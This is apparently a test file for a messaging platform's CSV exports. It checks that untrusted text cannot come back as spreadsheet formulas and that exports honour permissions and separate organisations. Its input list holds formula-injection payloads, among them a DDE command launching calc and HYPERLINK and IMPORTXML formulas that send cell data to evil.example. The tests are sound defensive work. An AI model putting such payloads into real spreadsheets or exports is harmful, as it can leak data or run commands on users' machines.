/** S16: texts of strangers are taken away as CSV, and a spreadsheet that opens it finds nothing to calculate. */
import { inEnglish, keptIn } from '../../core/kept-words.ts';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { until } from '../until.ts';
import { installation, meta, metaBody, openSite, phone, phoneBody, settled } from './site.ts';

const hostile = [
  '=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"Open")', '=IMPORTXML("https://evil.example","//a")', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1', '\r=1', '\n=1', ' =1', '"=1', '";=1;"', 'x;=1+1', 'a\n=1+1',
  'a\r\n@x', '＝1+1', '＋1', '－1', '＠SUM(A1)', "'=1", '\u200b=1', '\u00a0=1', 'a,"b",=1', '","=1', 'é 👍🏽 \u202e=1', '+1 555 000 1111', '00012', '108100000000001', ',,,"', '=', '%0A=1', "x','=1", '{=1}', '0;=1', '\\";=1',
];
const begin = /^[\s"\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u;

/** As RFC 4180 has it, and nothing beside it. */
function read(csv: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let at = 0;
  while (at < csv.length) {
    let cell = '';
    if (csv[at] === '"') {
      for (at += 1; csv[at] !== '"' || csv[at + 1] === '"'; at += 1) {
        if (at >= csv.length) throw new Error('a quote is not closed');
        cell += csv[at];
        if (csv[at] === '"') at += 1;
      }
      at += 1;
    } else {
      while (at < csv.length && csv[at] !== separator && csv[at] !== '\r' && csv[at] !== '\n') cell += csv[at++];
    }
    rows.at(-1)?.push(cell);
    if (csv[at] === separator) at += 1;
    else if (csv.startsWith('\r\n', at)) {
      at += 2;
      rows.push([]);
    } else if (at < csv.length) throw new Error(`after a cell comes ${JSON.stringify(csv.slice(at, at + 10))}`);
  }
  if (rows.pop()?.length !== 0) throw new Error('the last line does not end');
  return rows;
}

/** Taken away where it may have been added. */
const plain = (cell: string) =>
  cell.replaceAll(/^'(?='*(?:[\t\r\n]|(?:(?![\t\r\n])[\s"\p{Cc}\p{Cf}])*[=+\-@＝＋－＠]|(?:\d{12,}|0\d+)$))|(?<=[;\t\r\n])'(?='*(?:(?![\t\r\n])[\s"\p{Cc}\p{Cf}])*[=+\-@＝＋－＠])/gu, '');

interface Table {
  csv: string;
  rows: Record<string, string>[];
}

const key = 'the-key-of-the-exports';
const [acme, other] = installation.tenants;

async function openWithKey(t: Parameters<typeof openSite>[0]) {
  const site = await openSite(t, { config: { tenants: [{ ...acme, apiKeys: [{ name: 'books', key, scopes: ['*'] }] }, other] } });
  const call = async (path: string, body?: object) => {
    const headers = { host: `localhost:${site.port}`, authorization: `Bearer ${key}`, 'content-type': 'application/json' };
    const answer = await site.app.inject({ url: `/api/v1${path}`, method: body ? 'POST' : 'GET', headers, ...(body && { payload: JSON.stringify(body) }) });
    if (answer.statusCode >= 400) throw new Error(`${path}: ${answer.body}`);
    return answer;
  };
  const table = async (path: string): Promise<Table> => {
    const { body } = await call(path);
    const [head = [], ...rows] = read(body.replace(/^\ufeff/, ''));
    if (rows.some((row) => row.length !== head.length)) throw new Error(`a row of ${path} has more or fewer cells than the head`);
    return { csv: body, rows: rows.map((row) => Object.fromEntries(row.map((cell, n) => [head[n] ?? '', cell]))) };
  };
  return { site, call, table };
}

void t.test('S16: what strangers wrote comes back from the CSV as it was, and no cell of it is a formula, however a spreadsheet separates', { timeout: 240_000 }, async (t) => {
  const { site, call, table } = await openWithKey(t);
  const phoneOf = (n: number) => `62811555${String(n).padStart(5, '0')}`;
  for (const [n, text] of hostile.entries()) {
    const unknown = { entry: [{ id: text, changes: [{ field: text, value: {} }, { field: 'account_update', value: { event: text } }] }], object: 'whatsapp_business_account' };
    for (const body of [metaBody(text, { to: text, name: text }), JSON.stringify(unknown)]) t.equal((await site.deliver(meta, body)).statusCode, 200);
    t.equal((await site.deliver(phone, phoneBody(text, { from: phoneOf(n), name: text }))).statusCode, 200);
  }
  await settled(site);

  const { id: connection } = site.one<{ id: string }>("select id from connection where plugin = 'simulator'");
  const { id: number } = site.one<{ id: string }>("select id from number where plugin = 'simulator'");
  for (const [n, text] of hostile.entries()) {
    const { id } = (await call('/templates', { connection, name: text.trim() + n, language: 'en', category: text, body: `${text} {{1}}`, footer: text, header: { kind: 'text', text }, buttons: [{ kind: 'other', title: text }] })).json<{ id: string }>();
    await call('/messages', { number, to: phoneOf(n), content: { kind: 'template', id, variables: { 1: text } } });
  }
  await until('the templates were to be sent', () => site.one<{ n: number }>("select count(*) as n from message where kind = 'template' and status in ('queued', 'sending')").n === 0);

  const history = await table(`/numbers/${number}/history.csv`);
  const sent = site.all<{ id: string; name: string; phone: string; template: string; text: string }>("select m.id, c.name, c.phone, m.content ->> 'name' as template, m.text from message m join contact c on c.id = m.contact_id where m.kind = 'template' order by m.id desc");
  t.equal(sent.length, hostile.length);
  t.same(history.rows.map(({ id, contact = '', phone = '', template = '', text = '' }) => ({ id, name: plain(contact), phone: plain(phone), template: plain(template), text: plain(text) })), sent.map((row) => ({ ...row, phone: `+${row.phone}` })));

  const templates = await table('/templates.csv');
  const kept = site.all<{ id: string; name: string; preview: string }>('select id, name, preview from template');
  t.equal(templates.rows.length, kept.length);
  for (const { id, name, preview } of kept) {
    const row = templates.rows.find((one) => one['id'] === id);
    const { body, footer, header } = JSON.parse(preview) as { body: string; footer: string; header: { text: string } };
    t.same([row?.['name'], row?.['body'], row?.['footer'], row?.['header']].map((cell) => plain(cell ?? '')), [name, body, footer, header.text]);
  }

  const deliveries = await table('/deliveries.csv');
  const came = site.all<{ id: string; reason: string | null }>("select id, reason from delivery where tenant_id = (select id from tenant where slug = 'acme') order by id desc");
  t.ok(came.length >= 3 * hostile.length);
  t.same(deliveries.rows.map(({ id, reason = '' }) => ({ id, reason: plain(reason) })), came.map(({ id, reason }) => ({ id, reason: inEnglish(keptIn(reason)) })));

  const logs = await table(`/connections/${site.one<{ id: string }>("select c.id from connection c join tenant t on t.id = c.tenant_id where c.plugin = 'meta-cloud' and t.slug = 'acme'").id}/logs.csv`);
  t.ok(logs.rows.length > 0);

  for (const [name, { csv, rows }] of Object.entries({ history, templates, deliveries, logs })) {
    t.ok(csv.startsWith('\ufeff'), `${name} says that it is UTF-8`);
    t.same(rows.flatMap((row) => Object.values(row)).filter((cell) => begin.test(cell)), [], `${name}: no cell is a formula`);
    // As a spreadsheet in Madrid or in Jakarta reads it: nothing is known of commas, and quotes count only at the beginning of a cell.
    t.same(csv.slice(1).split(/[;\t\r\n]/).filter((cell) => begin.test(cell)), [], `${name}: nor where semicolons separate`);
    keep(name, csv);
  }
});

/** For a look at them in a spreadsheet. */
function keep(name: string, csv: string): void {
  const folder = process.env['EXPORTS_TO'];
  if (folder !== undefined) writeFileSync(join(folder, `${name}.csv`), csv);
}

void t.test('S16, S17: the pages give the same files, with the filter of the page, to those who may see the page, of their own organisation', async (t) => {
  const { site } = await openWithKey(t);
  await site.deliver(phone, phoneBody('one', { name: '=1+1' }));
  await site.deliver(meta, '[]');
  await settled(site);
  const visitor = await site.signedIn();
  const link = (body: string, path: string) => new RegExp(`href="([^"]*${path}[^"]*)"`).exec(body)?.[1]?.replaceAll('&amp;', '&') ?? '';

  const page = await visitor.get('/app/acme/settings/deliveries?state=failed');
  const failed = await visitor.get(link(page.body, 'deliveries\\.csv'));
  t.match(failed.headers, { 'content-type': 'text/csv; charset=utf-8; header=present', 'content-disposition': /^attachment; filename="deliveries-\d{4}-\d\d-\d\d\.csv"$/, 'cache-control': 'private, no-store', 'x-content-type-options': 'nosniff' });
  t.same(read(failed.body.slice(1)).slice(1).map((row) => row[4]), ['failed'], 'the filter of the page');
  t.equal(read((await visitor.get('/app/acme/settings/deliveries.csv')).body.slice(1)).length, 3);

  const { id } = site.one<{ id: string }>("select id from connection where plugin = 'simulator'");
  const logs = await visitor.get(`/app/acme/settings/channels/${id}?tab=logs&level=info&text=made`);
  t.match(read((await visitor.get(link(logs.body, 'logs\\.csv'))).body.slice(1)), [['id', 'at', 'level', 'message', 'event', 'by', 'detail'], ['', '', 'info', 'It was made.'].map((cell) => new RegExp(cell))]);
  t.equal(read((await visitor.get(`/app/acme/settings/channels/${id}/logs.csv?text=nothing-like-it`)).body.slice(1)).length, 1, 'nothing but the head');

  const agent = await site.signedIn('gus@example.test');
  for (const path of ['settings/deliveries.csv', `settings/channels/${id}/logs.csv`, `settings/channels/${id}/templates.csv`]) t.equal((await agent.get(`/app/acme/${path}`)).statusCode, 403, path);
  const stranger = await site.signedIn('otto@example.test');
  t.equal(read((await stranger.get('/app/other/settings/deliveries.csv')).body.slice(1)).length, 1, 'another organisation has none of these');
  for (const path of [`/app/other/settings/channels/${id}/logs.csv`, `/app/other/settings/channels/${id}/templates.csv`, '/app/acme/settings/deliveries.csv']) t.equal((await stranger.get(path)).statusCode, 404, path);
});
